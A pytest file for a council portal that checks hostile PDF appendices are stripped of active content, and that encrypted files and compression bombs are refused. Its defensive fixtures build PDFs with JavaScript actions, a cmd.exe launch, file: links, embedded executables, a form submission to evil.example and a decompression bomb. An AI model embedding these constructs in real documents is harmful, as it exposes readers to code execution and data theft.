"""Appendices are neutralised before they are stored and again before they go into a pack:
no scripts, launch actions, attachments, form submissions or file: links reach a reader, and
password-protected files and compression bombs are refused at upload."""

import datetime
import io
import shutil
import subprocess

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from partnerships.models import AgendaItem, Appendix, Meeting, Report
from partnerships.packs import PackError, build_pack_pdf
from partnerships.pdfsafe import ENCRYPTED_MESSAGE, neutralise

from .factories import BoardFactory, PartnershipFactory
from .test_packs import tiny_pdf

pytestmark = pytest.mark.django_db

SAFE_LINK = "https://www.cheshireeast.gov.uk/council_and_democracy/"
HOSTILE_NAMES = [b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/EmbeddedFile", b"/AA"]
HOSTILE_NAMES += [b"/SubmitForm", b"/ImportData", b"/XFA", b"/FileAttachment"]


def _name(value):
    return NameObject(value)


def _dict(**entries):
    return DictionaryObject({_name(f"/{k}"): v for k, v in entries.items()})


def _js(code: str) -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(code))


def _rect(*numbers):
    return ArrayObject([FloatObject(n) for n in numbers])


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer(text: str) -> PdfWriter:
    writer = PdfWriter()
    writer.append(io.BytesIO(tiny_pdf(text)))
    return writer


def hostile_pdf(text: str = "HOSTILE APPENDIX") -> bytes:
    """One page carrying everything a viewer could be made to run, launch, send or save."""
    writer = _writer(text)
    root = writer._root_object
    root[_name("/OpenAction")] = writer._add_object(_js("app.alert('opened')"))
    root[_name("/AA")] = _dict(WC=_js("app.alert('closing')"))
    writer.add_attachment("invoice.exe", b"MZ pretend program")
    root["/Names"][_name("/JavaScript")] = _dict(
        Names=ArrayObject([TextStringObject("doc"), writer._add_object(_js("this.print()"))])
    )
    page = writer.pages[0]
    page[_name("/AA")] = _dict(O=_js("app.alert('page opened')"))
    writer.add_annotation(0, Link(rect=(50, 700, 300, 720), url=SAFE_LINK))
    writer.add_annotation(0, Link(rect=(50, 660, 300, 680), url="file:///C:/Windows/cmd.exe"))
    writer.add_annotation(0, Link(rect=(50, 620, 300, 640), url=" JaVa\tScript:alert(1)"))
    launch = _dict(S=_name("/Launch"), F=TextStringObject("cmd.exe"))
    writer.add_annotation(
        0,
        _dict(
            Type=_name("/Annot"), Subtype=_name("/Link"), Rect=_rect(50, 580, 300, 600), A=launch
        ),
    )
    attached = DecodedStreamObject()
    attached.set_data(b"MZ attached program")
    attached[_name("/Type")] = _name("/EmbeddedFile")
    spec = _dict(
        Type=_name("/Filespec"),
        F=TextStringObject("tool.exe"),
        EF=_dict(F=writer._add_object(attached)),
    )
    writer.add_annotation(
        0,
        _dict(
            Type=_name("/Annot"),
            Subtype=_name("/FileAttachment"),
            Rect=_rect(10, 10, 30, 30),
            FS=writer._add_object(spec),
        ),
    )
    button = writer.add_annotation(
        0,
        _dict(
            Type=_name("/Annot"),
            Subtype=_name("/Widget"),
            FT=_name("/Btn"),
            T=TextStringObject("send"),
            Rect=_rect(300, 10, 400, 30),
            A=_dict(S=_name("/SubmitForm"), F=TextStringObject("https://evil.example/collect")),
            AA=_dict(D=_dict(S=_name("/ImportData"), F=TextStringObject("data.fdf"))),
        ),
    )
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    root[_name("/AcroForm")] = _dict(
        Fields=ArrayObject([button.indirect_reference]), XFA=writer._add_object(xfa)
    )
    data = _bytes(writer)
    for name in HOSTILE_NAMES:
        assert name in data  # the test file really is hostile
    return data


def encrypted_pdf(*, user_password: str) -> bytes:
    writer = _writer("PROTECTED APPENDIX")
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    return _bytes(writer)


def bomb_pdf(inflated: int) -> bytes:
    """A page whose content stream is a few kilobytes compressed and ``inflated`` bytes not."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    content = DecodedStreamObject()
    content.set_data(b"0 0 m 10 10 l S\n" * (inflated // 16))
    page[_name("/Contents")] = writer._add_object(content.flate_encode(level=9))
    return _bytes(writer)


@pytest.fixture
def report(officer):
    partnership = PartnershipFactory(name="Health and Wellbeing", lead_officer=officer)
    board = BoardFactory(partnership=partnership, name="Health and Wellbeing Board")
    meeting = Meeting.objects.create(
        board=board, start=timezone.now() + datetime.timedelta(days=3), venue="Westfields"
    )
    report = Report.objects.create(
        title="Town partnership funding",
        author="Steph Cordon",
        status="cleared",
        finance_signoff="F",
        legal_signoff="L",
        summary="<p>Public summary.</p>",
    )
    AgendaItem.objects.create(meeting=meeting, number=1, title=report.title, report=report)
    return report


def upload(client, report, data: bytes, name="appendix.pdf"):
    file = SimpleUploadedFile(name, data, content_type="application/pdf")
    return client.post(
        reverse("partnerships:appendix_add", args=[report.pk]),
        {"title": "Grant table", "order": 1, "file": file},
    )


def clear_again(report):
    """A new appendix sends the report back for clearance; clear it, so it goes in a pack."""
    Report.objects.filter(pk=report.pk).update(
        status="cleared", finance_signoff="F", legal_signoff="L"
    )


def assert_clean(pdf: bytes) -> None:
    for name in HOSTILE_NAMES:
        assert name not in pdf, name
    assert b"file:" not in pdf and b"Script:" not in pdf
    reader = PdfReader(io.BytesIO(pdf))
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    assert "/JavaScript" not in root.get("/Names", {})
    assert "/EmbeddedFiles" not in root.get("/Names", {})
    assert not reader.attachments
    assert "/XFA" not in root.get("/AcroForm", {})
    for page in reader.pages:
        assert "/AA" not in page
        for annot in page.get("/Annots", []):
            annot = annot.get_object()
            assert annot["/Subtype"] != "/FileAttachment" and "/AA" not in annot
            action = annot.get("/A")
            if action is not None:
                assert action["/S"] in ("/URI", "/GoTo"), action
                if action["/S"] == "/URI":
                    assert str(action["/URI"]).startswith(("https://", "http://", "mailto:"))


def links(pdf: bytes) -> list[str]:
    found = []
    for page in PdfReader(io.BytesIO(pdf)).pages:
        for annot in page.get("/Annots", []):
            action = annot.get_object().get("/A")
            if action is not None and action.get("/S") == "/URI":
                found.append(str(action["/URI"]))
    return found


def qpdf_check(pdf: bytes, tmp_path) -> None:
    if shutil.which("qpdf"):
        path = tmp_path / "pack.pdf"
        path.write_bytes(pdf)
        result = subprocess.run(["qpdf", "--check", str(path)], capture_output=True, text=True)
        assert result.returncode == 0, result.stdout + result.stderr


def test_a_hostile_appendix_is_stored_and_packed_without_its_active_content(
    client_for, officer, report, tmp_path
):
    hostile = hostile_pdf()
    response = upload(client_for(officer), report, hostile)
    assert response.status_code == 302
    appendix = report.appendices.get()
    with appendix.file.open("rb") as f:
        stored = f.read()
    assert_clean(stored)  # what an officer downloads is the safe file
    assert SAFE_LINK in links(stored)
    assert "HOSTILE APPENDIX" in PdfReader(io.BytesIO(stored)).pages[0].extract_text()

    clear_again(report)
    pdf, pages = build_pack_pdf(report.agenda_item.meeting, restricted=False)
    assert_clean(pdf)
    assert SAFE_LINK in links(pdf)  # an ordinary web link still works
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "Public summary" in text and "HOSTILE APPENDIX" in text
    qpdf_check(pdf, tmp_path)


def test_an_appendix_stored_before_the_check_is_neutralised_in_the_pack(report, tmp_path):
    appendix = Appendix(report=report, title="Old upload")
    appendix.file.save("old.pdf", ContentFile(hostile_pdf("OLD UPLOAD")), save=True)
    pdf, _ = build_pack_pdf(report.agenda_item.meeting, restricted=False)
    assert_clean(pdf)
    assert SAFE_LINK in links(pdf)
    qpdf_check(pdf, tmp_path)


def test_neutralise_says_what_it_removed_and_whether_the_file_is_tagged():
    safe = neutralise(hostile_pdf())
    assert safe.pages == 1 and not safe.tagged
    for what in [
        "open action",
        "document JavaScript",
        "embedded files",
        "file attachment",
        "launch action",
        "file: link",
        "javascript: link",
        "form submit action",
        "additional actions",
        "XFA form",
    ]:
        assert what in safe.removed, what

    writer = _writer("TAGGED")
    root = writer._root_object
    root[_name("/MarkInfo")] = _dict(Marked=BooleanObject(True))
    root[_name("/StructTreeRoot")] = writer._add_object(_dict(Type=_name("/StructTreeRoot")))
    tagged = neutralise(_bytes(writer))
    assert tagged.tagged and tagged.removed == []
    assert "/StructTreeRoot" in PdfReader(io.BytesIO(tagged.data)).trailer["/Root"]


def test_a_password_protected_appendix_is_refused_at_upload(client_for, officer, report):
    response = upload(client_for(officer), report, encrypted_pdf(user_password="letmein"))
    assert response.status_code == 200
    assert ENCRYPTED_MESSAGE in response.content.decode()
    assert not report.appendices.exists()


def test_an_owner_password_only_appendix_is_saved_unencrypted(client_for, officer, report):
    response = upload(client_for(officer), report, encrypted_pdf(user_password=""))
    assert response.status_code == 302
    with report.appendices.get().file.open("rb") as f:
        reader = PdfReader(io.BytesIO(f.read()))
    assert not reader.is_encrypted
    assert "PROTECTED APPENDIX" in reader.pages[0].extract_text()


def test_a_compression_bomb_is_refused_at_upload(client_for, officer, report, settings):
    settings.PORTAL_APPENDIX_MAX_INFLATED_BYTES = 1024 * 1024
    bomb = bomb_pdf(8 * 1024 * 1024)
    assert len(bomb) < 64 * 1024  # small on disk
    response = upload(client_for(officer), report, bomb)
    assert response.status_code == 200
    assert "This PDF is too large once uncompressed (more than 1 MB)" in response.content.decode()
    assert not report.appendices.exists()


def test_a_bomb_stored_before_the_check_fails_the_build_with_a_reason(report, settings):
    settings.PORTAL_APPENDIX_MAX_INFLATED_BYTES = 1024 * 1024
    appendix = Appendix(report=report, title="Map")
    appendix.file.save("map.pdf", ContentFile(bomb_pdf(8 * 1024 * 1024)), save=True)
    with pytest.raises(PackError, match="Appendix A of item 1 \\(Map\\) cannot go into a pack"):
        build_pack_pdf(report.agenda_item.meeting, restricted=False)


def test_too_many_pages_are_refused_at_upload(client_for, officer, report, settings):
    settings.PORTAL_APPENDIX_MAX_PAGES = 2
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    response = upload(client_for(officer), report, _bytes(writer))
    assert "This PDF has 3 pages; the limit is 2." in response.content.decode()
    assert not report.appendices.exists()


def test_the_pack_stays_in_proportion_to_its_inputs(client_for, officer, report):
    meeting = report.agenda_item.meeting
    without, _ = build_pack_pdf(meeting, restricted=False)
    # Under the default limit: an appendix that is large once inflated, but allowed.
    appendix = bomb_pdf(4 * 1024 * 1024)
    assert upload(client_for(officer), report, appendix).status_code == 302
    clear_again(report)
    with_appendix, _ = build_pack_pdf(meeting, restricted=False)
    assert len(with_appendix) < len(without) + 4 * len(appendix) + 64 * 1024
